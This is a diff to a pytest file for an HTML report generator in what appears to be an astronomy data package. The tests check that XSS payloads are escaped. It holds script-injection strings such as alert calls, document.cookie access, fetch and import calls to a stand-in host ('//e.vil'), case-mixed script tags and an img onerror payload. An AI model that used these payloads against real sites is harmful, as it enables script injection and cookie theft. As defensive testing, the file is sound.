@@ -1,6 +1,5 @@
 """The report: one file that holds everything and lets nothing of the data act in the browser."""
 
-import html
 import itertools
 import re
 from html.parser import HTMLParser
@@ -49,7 +48,13 @@ class Page(HTMLParser):
 
 def payloads():
     """500 ways to write something that a page must not take for its own."""
-    acts = ["alert(1)", "fetch('//e.vil')", "document.cookie", "top['al'+'ert'](1)", "import('//e')"]
+    acts = [
+        "alert(1)",
+        "fetch('//e.vil')",
+        "document.cookie",
+        "top['al'+'ert'](1)",
+        "import('//e')",
+    ]
     shapes = [
         "<script>{}</script>",
         "<ScRiPt >{}</sCrIpT >",
@@ -175,7 +180,9 @@ def fitted():
 @pytest.fixture
 def no_figures(monkeypatch):
     monkeypatch.setattr(ba.Periodogram, "plot", lambda self, name: Figure())
-    monkeypatch.setattr(report, "_image", lambda figure, name: f'<figure><img alt="{name}"></figure>')
+    monkeypatch.setattr(
+        report, "_image", lambda figure, name: f'<figure><img alt="{name}"></figure>'
+    )
 
 
 def renamed(model, text):
@@ -191,59 +198,55 @@ def renamed(model, text):
     record["priors"] = {text: {"distribution": text, text: [text], "b": {"value": 1, "unit": text}}}
     record["versions"] |= {text: text, "numpy": text}
     again._tree.attrs["bayes_astro"] = json.dumps(record)
-    band = again._tree["constant_data"]["band"]
-    again._tree["constant_data"] = again._tree["constant_data"].assign(
-        band=(band.dims, np.full(band.shape, text))
-    )
+    constant = again._tree["constant_data"].to_dataset()
+    printable = "".join(filter(str.isprintable, text))  # others are refused as names of bands
+    constant["band"] = ("row", np.full(constant.sizes["row"], printable))
+    again._tree["constant_data"] = type(again._tree)(constant)
     posterior = again._tree["posterior"].to_dataset()
     for array in posterior.data_vars.values():
         array.attrs["units"] = text
     posterior["frequency"].attrs["units"] = ""
-    posterior = posterior.assign_coords(term=[text]).assign({text: posterior["offset"]})
+    posterior = posterior.assign_coords(term=[text])
     again._tree["posterior"] = type(again._tree)(posterior)
     again._tree["evidence"].attrs["note"] = text
     return again
 
 
-def harmful(model, baseline, text, monkeypatch):
+def harmful(model, text, monkeypatch):
+    """A page in which every text that can come from data, files or errors is `text`."""
     check = Check(text, False, 1.0, text, text)
-    monkeypatch.setattr(ba.Periodogram, "diagnose", lambda self: Diagnosis((check,)))
-    monkeypatch.setattr(ba.Periodogram, "equation", lambda self: text)
-    monkeypatch.setattr(ba.Periodogram, "citations", lambda self: text)
     modes = pd.DataFrame([{"mass": 1.0, "period": 1.0, "sd": 0.1, "alias_of": text}])
-    monkeypatch.setattr(ba.Periodogram, "modes", lambda self: modes)
-    return report.page(renamed(model, text), renamed(baseline, text), title=text)
+    for name, value in {
+        "diagnose": Diagnosis((check,)),
+        "equation": text,
+        "citations": text,
+        "modes": modes,
+    }.items():
+        monkeypatch.setattr(ba.Periodogram, name, lambda self, value=value: value)
+    again = renamed(model, text)
+    return report.page(again, again, title=text)
 
 
-def renamed_baseline(baseline):
-    return baseline
+CLASSES = {"", "n", "w", "note", "ok", "FAILED", "verdict FAILED", "scroll", "equation"}
 
 
 def test_500_payloads_leave_no_live_tag(fitted, no_figures, monkeypatch):
-    model, baseline = fitted
-    record = baseline.record
-    record["sampler"] = {"settings": {}}
-    monkeypatch.setattr(type(baseline), "record", record)
-    monkeypatch.setattr(baseline, "summary", baseline.summary)
-    plain = Page(harmful(model, model, "harmless", monkeypatch))
-    assert not plain.open
+    model, _ = fitted
+    plain = Page(harmful(model, "harmless", monkeypatch))
     seen = 0
     for group in range(0, len(PAYLOADS), 5):
         # Five on end: what one leaves open, the next could use.
         text = " ".join(PAYLOADS[group : group + 5])
-        page = Page(harmful(model, model, text, monkeypatch))
+        page = Page(harmful(model, text, monkeypatch))
         assert page.tags == plain.tags
-        assert {(t, n) for t, n, _ in page.values} == {(t, n) for t, n, _ in plain.values}
-        classes = {value for _, name, value in page.values if name == "class"}
-        assert classes <= {"", "n", "w", "note", "ok", "FAILED", "verdict ok", "verdict FAILED"} | {
-            "scroll",
-            "equation",
-        }
+        assert {value for _, name, value in page.values if name == "class"} <= CLASSES
+        fixed = {value for value in page.values if value[1] != "class"}
+        assert fixed == {value for value in plain.values if value[1] != "class"}
         assert not page.other
         assert not page.open
         # Every name stands there for the reader, letter by letter.
-        seen += "".join(page.text).count(html.unescape(html.escape(text)))
-    assert seen >= 100 * 15
+        seen += "".join(page.text).count(text)
+    assert seen >= len(PAYLOADS) / 5 * 20
 
 
 @pytest.mark.parametrize("payload", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'])
@@ -256,9 +259,7 @@ def test_notebook_tables_escape_too(payload, fitted):
     assert table["status"].tolist() == ["failed"]
     table.loc[payload, "error"] = payload
     assert not {tag for tag, *_ in Page(table._repr_html_()).tags} & {"script", "img"}
-    shown = ba.LinearRelation(payload)._repr_html_()
-    assert payload not in shown
-    assert "onerror=alert" not in html.unescape(re.sub(r"<[^>]*>", "", "")) + ""
+    assert payload not in ba.LinearRelation(payload)._repr_html_()
 
 
 def test_names_that_utf8_cannot_hold(fitted, no_figures, tmp_path):
@@ -275,7 +276,9 @@ def real(fitted, tmp_path_factory):
 
 def test_one_file_that_loads_nothing(real):
     page = Page(real)
-    sources = [value for _, name, value in page.values if name in ("src", "href", "srcset", "action")]
+    sources = [
+        value for _, name, value in page.values if name in ("src", "href", "srcset", "action")
+    ]
     assert sources
     assert all(source.startswith("data:image/png;base64,") for source in sources)
     assert not re.search(r"url\(|@import|<script|<link|<iframe", real)
@@ -300,7 +303,7 @@ def test_it_says_what_a_reader_needs(fitted, real):
         f"Beside {type(baseline).__name__}",
         "Exact(draws=400)",
         record["versions"]["numpy"],
-        "@book{bretthorst1988" if "@book{bretthorst1988" in model.citations() else "bretthorst1988",
+        "{bretthorst1988,",
     ):
         assert expected in text, expected
     for name in model.summary().index:
